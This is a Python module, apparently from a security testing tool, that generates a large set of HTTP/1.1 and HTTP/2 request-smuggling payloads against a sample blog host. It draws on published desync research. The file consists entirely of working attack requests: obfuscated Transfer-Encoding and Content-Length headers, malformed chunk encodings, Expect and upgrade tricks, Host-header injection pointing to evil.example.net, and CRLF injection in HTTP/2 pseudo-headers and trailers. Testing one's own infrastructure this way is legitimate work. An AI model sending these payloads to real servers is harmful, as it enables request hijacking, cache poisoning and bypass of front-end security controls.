"""Requests that two programs may read in two ways: one is in front of the other, and sends on what it read.

The techniques are those of https://portswigger.net/research/http-desync-attacks-request-smuggling-reborn (CL.TE, TE.CL,
TE.TE), https://portswigger.net/research/http2 (from HTTP/2 to HTTP/1.1), https://portswigger.net/research/http1-must-die
(0.CL, Expect) and https://w4ke.info/2025/06/18/funky-chunks.html (the ends of chunk lines).
"""

from typing import NamedTuple

from .caller import HOST
from .http2_frames import Fields
from .test_attacks import READ_IN_TWO_WAYS

SITE = "blog.example.org"
# Stands for the number of an attack, which its targets bear.
NUMBER = "###"
CLOSE = "Connection: close"
TE, END = "Transfer-Encoding: chunked", b"0\r\n\r\n"


class Attack(NamedTuple):
    """Bytes to send to a proxy that speaks HTTP/1.1."""

    name: str
    raw: bytes


class Attack2(NamedTuple):
    """A request to a proxy that speaks HTTP/2."""

    name: str
    fields: Fields
    body: bytes | None = None
    trailers: Fields | None = None


def request(line: str, *headers: str, body: bytes = b"", host: str = f"Host: {SITE}") -> bytes:
    return "\r\n".join([f"{line} HTTP/1.1", host, *headers, "", ""]).encode("latin-1") + body


def sent(*headers: str, body: bytes = b"") -> bytes:
    return request(f"POST /en/?a={NUMBER}", *headers, body=body)


# Whoever answers this one, where it is within another one, was deceived.
SECOND = request(f"GET /second/{NUMBER}/", CLOSE)
SIZE = len(SECOND)
IN_CHUNK = b"%x\r\n%b\r\n%b" % (SIZE, SECOND, END)
# A proxy that goes by the length ends it before SECOND.
SIZE_LINE = len(b"%x\r\n" % SIZE)


def _obscured() -> list[str]:
    """Return ways to write that a body is chunked which one program may overlook."""
    values = ("xchunked", "chunked, identity", "identity, chunked", ",chunked", "chunked,", "chunked;q=1", '"chunked"')
    values += (
        "\tchunked",
        "\x0bchunked",
        "\x0cchunked",
        "\xa0chunked",
        "chunked\x00",
        "\x00chunked",
        "chunked\x85",
        "",
    )
    values += (
        "CHUNKED",
        "gzip, chunked",
        "chunked chunked",
        "chunked\r\n\t",
        "\r\n chunked",
        "\n chunked",
        "\rchunked",
    )
    names = (
        "Transfer-Encoding ",
        "Transfer_Encoding",
        " Transfer-Encoding",
        "Transfer-Encoding\t",
        "transfer-encoding",
    )
    names += (
        "Transfer-Encoding\x00",
        "X-X: X\rTransfer-Encoding",
        "X-X: X\nTransfer-Encoding",
        "X-X: X\r\n Transfer-Encoding",
    )
    names += ("\x0bTransfer-Encoding", "Transfer-Encoding\n", "Transfer-Encodıng".encode().decode("latin-1"))
    return [
        *(f"Transfer-Encoding: {value}" for value in values),
        *(f"{name}: chunked" for name in names),
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding\r\n: chunked",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding:chunked",
    ]


def _chunks() -> list[bytes]:
    """Return bodies in chunks whose lines end, or whose sizes read, in two ways."""
    lines = (
        b"2;a",
        b'2;a="\r\n"',
        b"2;a=b\n",
        b"2;\n",
        b"2;\r",
        b"2\r",
        b"2\n",
        b"2 ",
        b" 2",
        b"2\t",
        b"2;a=\x00",
        b"2,2",
    )
    lines += (
        b"+2",
        b"-2",
        b"0x2",
        b"2h",
        b"0_2",
        b"2.0",
        b"00000000000000002",
        b"10000000000000002",
        b"2;" + b"a" * 9000,
    )
    lines += (b"ffffffffffffffff", b"7fffffffffffffff", b"", b"\xef\xbc\x92", b"2\x0b", b"2;a\rb", b"2;a=b\n0")
    return [
        *(line + b"\r\nxx\r\n" + END for line in lines),
        b"2\r\nxx" + END,
        b"2\r\nxx\n" + END,
        b"2\r\nxx\r" + END,
        b"2\r\nxxyy" + END,
        b"2\r\nxxx\r\n" + END,
        b"2\nxx\n0\n\n",
        b"2\r\nxx\r\n0\n\n",
        b"2\r\nxx\r\n0\r\r",
        b"2\r\nxx\r\n0;a=b\r\n\r\n",
        b"2\r\nxx\r\n000\r\n\r\n",
        b"2\r\nxx\r\n0\r\nContent-Length: %d\r\n\r\n" % SIZE,
        b"2\r\nxx\r\n0\r\nTransfer-Encoding: chunked\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
        b"2\r\nxx\r\n0\r\nno colon\r\n\r\n",
        b"2\r\nxx\r\n0\r\nX: 1\n\n",
        # For who takes the line feed for the end, the second request stands outside.
        b"2;\nxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n" % (SIZE + 5, SECOND),
        b"%x;\n" % (SIZE + 7) + b"\r\n0\r\n\r\n" + SECOND + b"\r\n0\r\n\r\n",
    ]


def _http11() -> list[Attack]:
    found = [
        Attack(
            "as the site alone is attacked",
            raw.replace(HOST.encode(), SITE.encode()).replace(b" /en/ ", b" /en/?a=### "),
        )
        for raw in READ_IN_TWO_WAYS
    ]
    for line in ("Transfer-Encoding: chunked", *_obscured()):
        # The first goes by the length, the second by the chunks; and the other way round.
        found.append(Attack("CL.TE", sent(f"Content-Length: {SIZE + 5}", line, body=END + SECOND)))
        found.append(Attack("TE.CL", sent(line, f"Content-Length: {SIZE_LINE}", body=IN_CHUNK)))
        found.append(Attack("TE.TE", sent(line, body=END)))
    found += [Attack("chunks", sent(TE, body=body)) for body in _chunks()]
    for lengths in (("0", f"{SIZE}"), (f"{SIZE}", "0"), (f"{SIZE}", f"{SIZE}"), (f"{SIZE},{SIZE}",), (f"0,{SIZE}",)):
        found.append(Attack("CL.CL", sent(*(f"Content-Length: {length}" for length in lengths), body=SECOND)))
    for name in ("Content-Length ", "Content_Length", " Content-Length", "Content-Length\x00", "X: X\nContent-Length"):
        found.append(Attack("CL.0", sent(f"{name}: {SIZE}", body=SECOND)))
    for value in ("\x0b{}", "{}\x00", "{}\xa0", "+{}", "{} ", "0{}", "{}.0", "{};a", "\r\n {}", "{}\r", "0x{:x}"):
        found.append(Attack("CL.0", sent("Content-Length: " + value.format(SIZE), body=SECOND)))
    for line in (
        "GET",
        "HEAD",
        "OPTIONS",
        "DELETE",
        "TRACE",
        "get",
        "CONNECT",
        "PRI",
        "G\x00ET",
        "GET\x0b",
        "\x00GET",
        " GET",
    ):
        found.append(Attack("CL.0", request(f"{line} /en/?a=###", f"Content-Length: {SIZE}", body=SECOND)))
        found.append(Attack("TE.0", request(f"{line} /en/?a=###", TE, body=IN_CHUNK)))
    for path in ("/static/nothing/###", "/media/###", "/con", "/en/?a=###\x0b", "/en/?a=###\xff", "//second/###/", "*"):
        found.append(Attack("CL.0", request(f"POST {path}", f"Content-Length: {SIZE}", body=SECOND)))
    for expect in ("100-continue", "y 100-continue", "\n100-continue", "100-Continue, 100-continue", "", "101"):
        found.append(Attack("0.CL", sent(f"Expect: {expect}", f"Content-Length: {SIZE}", body=SECOND)))
        found.append(Attack("0.CL", request("GET /en/?a=###", f"Expect: {expect}", TE, body=IN_CHUNK)))
    for names in ("Content-Length", "Transfer-Encoding", "Content-Length, Host", "close, Content-Length", "Host"):
        found.append(Attack("hop by hop", sent(f"Connection: {names}", f"Content-Length: {SIZE}", body=SECOND)))
        found.append(Attack("hop by hop", sent(f"Connection: {names}", TE, body=IN_CHUNK)))
    h2c = ("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Connection: Upgrade, HTTP2-Settings")
    websocket = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
    for headers in (
        h2c,
        h2c[:1],
        websocket,
        (*websocket, "Sec-WebSocket-Version: 13"),
        ("Upgrade: TLS/1.0", websocket[1]),
    ):
        found.append(Attack("upgrade", request("GET /en/?a=###", *headers)))
        found.append(Attack("upgrade", sent(*headers, f"Content-Length: {SIZE}", body=SECOND)))
    for host in (
        f"Host: {SITE}\r\nHost: evil.example.net",
        f"Host: {SITE}\r\n Host: evil.example.net",
        f"Host: evil.example.net\r\nX: {SITE}",
        f"Host: {SITE}/second/",
        f"Host: {SITE} evil.example.net",
        f"Host : {SITE}",
        f"Host: {SITE}\x00",
        "Host:",
    ):
        found.append(Attack("host", request("GET /en/?a=###", CLOSE, host=host)))
        found.append(Attack("host", request("GET https://blog.example.org/en/?a=###", CLOSE, host=host)))
    for line in ("GET /en/?a=### HTTP/1.0", "GET /en/?a=### HTTP/0.9", "GET /en/?a=###", "GET /en/?a=### HTTP/2.0"):
        raw = f"{line}\r\nHost: {SITE}\r\nConnection: keep-alive\r\n{TE}\r\n\r\n".encode() + IN_CHUNK
        found.append(Attack("version", raw))
    return [Attack(name, raw + SECOND) for name, raw in found]


def _fields(*more: tuple[str, str], **changed: str) -> Fields:
    pseudo = {"method": "POST", "scheme": "https", "authority": SITE, "path": f"/en/?a={NUMBER}"} | changed
    pairs = [(f":{name}", value) for name, value in pseudo.items()] + list(more)
    return [(name.encode("latin-1"), value.encode("latin-1")) for name, value in pairs]


def _http2() -> list[Attack2]:
    smuggled = SECOND.decode()
    inner = f"/en/?a={NUMBER} HTTP/1.1\r\nHost: {SITE}\r\n\r\n{smuggled}"
    found = [
        Attack2("H2.TE", _fields(("transfer-encoding", "chunked")), END + SECOND),
        Attack2("H2.TE", _fields(("transfer-encoding", "chunked"), ("content-length", f"{SIZE + 5}")), END + SECOND),
        Attack2("H2.TE", _fields(("transfer_encoding", "chunked")), END + SECOND),
        Attack2("H2.TE", _fields(("Transfer-Encoding", "chunked")), END + SECOND),
        Attack2("H2.TE", _fields(("transfer-encoding ", "chunked")), END + SECOND),
        Attack2("H2.TE", _fields(("te", "trailers, chunked")), END + SECOND),
        Attack2("H2.TE", _fields(("connection", "transfer-encoding"), ("upgrade", "h2c")), END + SECOND),
        Attack2("H2.body", _fields(), SECOND),
        Attack2("H2.body", _fields(method="GET"), SECOND),
        Attack2("H2.method", _fields(method=f"GET {inner}")),
        Attack2("H2.method", _fields(method="GET /second/### HTTP/1.1\r\nX:")),
        Attack2("H2.path", _fields(path=inner, method="GET")),
        Attack2("H2.path", _fields(path="/en/?a=### HTTP/1.1\nX: 1\n\n" + smuggled, method="GET")),
        Attack2("H2.path", _fields(path="/en/?a=### /second/", method="GET")),
        Attack2("H2.path", _fields(path="en/?a=###", method="GET")),
        Attack2("H2.path", _fields(path="https://evil.example.net/second/", method="GET")),
        Attack2("H2.path", _fields(path="*", method="GET")),
        Attack2("H2.path", _fields(path="", method="GET")),
        Attack2("H2.path", _fields(path="/en/?a=###\x00", method="GET")),
        Attack2("H2.authority", _fields(authority=f"{SITE}\r\n\r\n{smuggled}", method="GET")),
        Attack2("H2.authority", _fields(("host", "evil.example.net"), method="GET")),
        Attack2("H2.authority", _fields(("host", SITE), authority="evil.example.net", method="GET")),
        Attack2("H2.authority", _fields(("host", SITE), ("host", SITE), method="GET")),
        Attack2("H2.authority", _fields(authority=f"{SITE} evil.example.net", method="GET")),
        Attack2("H2.scheme", _fields(scheme=f"https://{SITE}/second/?", method="GET")),
        Attack2("H2.scheme", _fields(scheme=f"http {inner}", method="GET")),
        Attack2("H2.connect", _fields((":protocol", "websocket"), method="CONNECT")),
        Attack2("H2.connect", _fields(method="CONNECT"), SECOND),
        Attack2("H2.twice", _fields((":path", "/second/###/"), method="GET")),
        Attack2("H2.twice", _fields((":method", "GET"))),
        Attack2("H2.late", _fields(("a", "b"), (":path", "/second/###/"), method="GET")),
        Attack2("H2.unknown", _fields((":evil", "x\r\n\r\n"), method="GET")),
        Attack2("H2.name", _fields(("", "chunked")), SECOND),
        Attack2("H2.cookie", _fields(("cookie", "a=b\r\n\r\n" + smuggled)), SECOND),
        Attack2(
            "H2.trailers", _fields(), b"a", [(b"content-length", b"%d" % SIZE), (b"transfer-encoding", b"chunked")]
        ),
        Attack2("H2.trailers", _fields(), b"a", [(b":path", b"/second/###/"), (b"x-forwarded-for", b"203.0.113.9")]),
        Attack2("H2.trailers", _fields(), b"a", [(b"x", b"1\r\n\r\n" + SECOND)]),
        Attack2("H2.expect", _fields(("expect", "100-continue"), ("content-length", f"{SIZE}")), SECOND),
    ]
    for length in (
        "0",
        "3",
        f"{SIZE - 1}",
        f"{SIZE + 1}",
        f"+{SIZE}",
        f"{SIZE}, {SIZE}",
        "-1",
        "",
        f"{SIZE}\r\n",
        "0x1",
        "9" * 30,
    ):
        found.append(Attack2("H2.CL", _fields(("content-length", length)), SECOND))
    found.append(Attack2("H2.CL", _fields(("content-length", "0"), ("content-length", f"{SIZE}")), SECOND))
    for value in (
        "b\r\nTransfer-Encoding: chunked",
        f"b\r\n\r\n{smuggled}",
        "b\nContent-Length: 0",
        "b\rX: c",
        "b\x00c",
    ):
        found.append(Attack2("H2.value", _fields(("a", value)), END + SECOND))
    for name in (
        "a: b\r\nTransfer-Encoding: chunked\r\nc",
        "a:",
        "a b",
        "a\x00",
        "a\r\n\r\n" + smuggled,
        "A",
        "a\xff",
        "\n",
    ):
        found.append(Attack2("H2.name", _fields((name, "c")), END + SECOND))
    return found


HTTP11, HTTP2 = _http11(), _http2()
